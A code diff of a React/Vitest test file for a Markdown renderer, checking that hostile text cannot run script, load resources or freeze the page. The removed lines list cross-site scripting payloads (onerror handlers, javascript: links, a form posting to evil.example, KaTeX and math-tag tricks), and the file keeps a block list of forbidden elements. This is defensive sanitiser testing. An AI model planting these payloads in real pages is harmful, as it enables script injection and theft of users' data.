@@ -1,46 +1,47 @@
 import { cleanup, fireEvent, render, screen } from "@testing-library/react";
 import { afterEach, describe, expect, test, vi } from "vitest";
+import { hostileTexts } from "./hostile-texts.fixture.ts";
 import { Markdown } from "./index.tsx";
+import { MarkdownLanguage } from "./messages.ts";
 
 afterEach(cleanup);
 
 const forbidden =
-  "script, img, iframe, object, embed, form, style, link, meta, base, video, audio, image, foreignObject";
-
-const payloads = [
-  "<script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  "<svg onload=alert(1)><foreignObject><script>alert(1)</script></foreignObject></svg>",
-  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-  "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
-  "<style>*{display:none}</style><form action=//evil.example><input name=token></form>",
-  "![x](https://evil.example/track.png) ![y](data:image/svg+xml;base64,PHN2Zz4=)",
-  "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,<script>alert(1)</script>)",
-  "[x](vbscript:msgbox) [y](\\x01javascript:alert(1)) [z](java\tscript:alert(1)) <javascript:alert(1)>",
-  "[x]: javascript:alert(1)\n\n[x] and ![x]",
-  "$$\\href{javascript:alert(1)}{x} \\url{javascript:alert(1)}$$",
-  "$$\\htmlClass{x}{y} \\htmlStyle{position:fixed}{y} \\includegraphics{https://evil.example/x.png}$$",
-  '```js"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
-  "| <b onmouseover=alert(1)>a</b> |\n|---|\n| <img src=x onerror=alert(1)> |",
-  "- [ ] <input autofocus onfocus=alert(1)>",
-  "Text[^1]\n\n[^1]: <img src=x onerror=alert(1)> [back](javascript:alert(1))",
-  "<details open ontoggle=alert(1)><summary>x</summary></details>",
-  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
-];
+  "script, img, iframe, frame, object, embed, applet, form, input, select, textarea, style, link, meta, base, " +
+  "video, audio, source, track, image, foreignObject, use, animate, set, dialog, details, template, portal";
+const addresses = ["href", "src", "action", "formaction", "xlink:href", "srcset", "poster", "data", "ping"];
+/** Far above what any takes here, far below a page that seems dead. */
+const renderMsMax = 5_000;
 
 describe("text of models and people", () => {
-  test.each(payloads)("can run, load or send nothing: %s", (text) => {
-    const { container } = render(<Markdown text={text} />);
-    expect(container.querySelectorAll(forbidden)).toHaveLength(0);
-    for (const element of container.querySelectorAll("*")) {
-      for (const { name, value } of element.attributes) {
-        expect(name).not.toMatch(/^on/i);
-        if (["href", "src", "action", "formaction", "xlink:href", "srcset", "poster"].includes(name)) {
-          expect(value).toMatch(/^(https?|mailto):/);
+  test("comes in many hostile kinds", () => {
+    expect(Object.keys(hostileTexts).length).toBeGreaterThanOrEqual(60);
+  });
+
+  test.each(Object.entries(hostileTexts))(
+    "can run, load or send nothing, nor stop the page: %s",
+    (_, text) => {
+      const begun = performance.now();
+      const { container } = render(<Markdown text={text} />);
+      expect(performance.now() - begun).toBeLessThan(renderMsMax);
+      expect([...container.querySelectorAll(forbidden)].map((element) => element.outerHTML)).toEqual([]);
+      for (const element of container.querySelectorAll("*")) {
+        for (const { name, value } of element.attributes) {
+          expect(name).not.toMatch(/^on/i);
+          if (addresses.includes(name)) expect(value).toMatch(/^(https?|mailto):/);
+          if (name === "style") expect(value).not.toMatch(/url\(|fixed|expression|@import/i);
         }
       }
-    }
-  });
+      for (const link of container.querySelectorAll("a")) {
+        expect(link.rel.split(" ")).toEqual(expect.arrayContaining(["noopener", "noreferrer"]));
+        expect(fireEvent.click(link), "a link must not be followed without asking").toBe(false);
+        fireEvent.click(screen.getByRole("button", { name: "Stay here" }));
+        // One is enough of thousands alike.
+        if (container.querySelectorAll("a").length > 50) break;
+      }
+      expect(Reflect.get(window, "pwned")).toBeUndefined();
+    },
+  );
 
   test("raw HTML is shown as what it is", () => {
     render(<Markdown text={"a <b>bold</b> claim"} />);
@@ -92,11 +93,50 @@ describe("text of models and people", () => {
     expect(screen.getByText("One").dataset.heading).toBe("1");
   });
 
-  test("megabytes are shown as they are instead of being parsed", () => {
-    const text = "*a* ".repeat(40_000);
+  test("megabytes are shown as they are, the first part at once and all of it on demand", () => {
+    const text = "*ab ".repeat(1_250_000);
     const { container } = render(<Markdown text={text} />);
     expect(container.querySelectorAll("em")).toHaveLength(0);
-    expect(container.textContent).toContain("160,000 characters");
+    expect(container.textContent).toContain("Shown without formatting (5,000,000 characters)");
+    expect(container.textContent).toContain("4,900,000 more characters are not shown yet.");
+    fireEvent.click(screen.getByRole("button", { name: "Show all" }));
+    expect(screen.queryByRole("button")).toBeNull();
+    const shown = [...container.querySelectorAll("div[dir=auto]")].map((piece) => piece.textContent).join("");
+    expect(shown).toBe(text);
+  });
+
+  test.each([
+    ["marks", "*_".repeat(4_000), "it has very many marks"],
+    ["lines", "a\n".repeat(5_000), "it has very many marks"],
+    ["quotes", `a\n\n${"> ".repeat(100)}deep`, "it is nested very deeply"],
+    [
+      "indented lists",
+      Array.from({ length: 60 }, (_, i) => `${"  ".repeat(i)}- a`).join("\n"),
+      "it is nested very deeply",
+    ],
+  ])("too many %s are shown as they are, with the reason", (_, text, reason) => {
+    const { container } = render(<Markdown text={text} />);
+    expect(container.textContent).toContain(reason);
+    expect(container.textContent).toContain(text.slice(0, 60).split("\n")[0]);
+  });
+
+  test("beyond a text's share, formulas stay source and code stays without colours", () => {
+    const code = (lines: number) => `\`\`\`ts\n${"const a = 1;\n".repeat(lines)}\`\`\``;
+    const text = `$$x^2$$\n\n$$${"y+".repeat(1_500)}y$$\n\n${code(10)}\n\n${code(1_000)}`;
+    const { container } = render(<Markdown text={text} />);
+    expect(container.querySelectorAll(".katex")).toHaveLength(1);
+    expect(container.textContent).toContain("y+y+y");
+    expect(container.querySelectorAll(".hljs-keyword")).toHaveLength(10);
+    expect(container.querySelectorAll("pre")[1]?.textContent).toBe("const a = 1;\n".repeat(1_000));
+  });
+
+  test("what the frame around a text says is in the reader's language", () => {
+    render(
+      <MarkdownLanguage value="de">
+        <Markdown text={"![Hund](https://example.org/x.png)"} />
+      </MarkdownLanguage>,
+    );
+    expect(screen.getByText("[Bild: Hund]")).toBeDefined();
   });
 
   test("mathematics, tables and highlighted code are rendered", () => {
